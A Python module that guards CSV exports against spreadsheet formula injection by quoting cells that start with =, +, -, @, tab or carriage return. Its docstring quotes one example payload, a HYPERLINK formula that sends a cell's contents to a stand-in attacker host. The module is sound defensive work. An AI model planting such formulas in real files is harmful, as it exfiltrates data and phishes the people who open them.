"""CSV files that are safe to open in a spreadsheet.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is
run as a formula by Excel, LibreOffice and Google Sheets: a patient registered as
``=HYPERLINK("https://evil.example/?"&A2, "Open")`` would turn the audit export into a phishing
link, or worse. OWASP's guidance (CSV Injection) is to prefix such a cell with a single quote,
which the spreadsheet reads as "this is text" and does not show. Every CSV export in Trellis
writes through ``writer`` below.

Numbers are left alone: ``-12.5`` is a figure, not a formula, and must stay a number in the sheet.
"""

import csv
import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should receive it: text that would run as a formula gets a
    leading single quote; everything else (numbers, dates, empty cells) is unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """``csv.writer`` with every cell passed through ``safe_cell``."""

    def __init__(self, file) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])


def writer(file) -> SafeWriter:
    return SafeWriter(file)
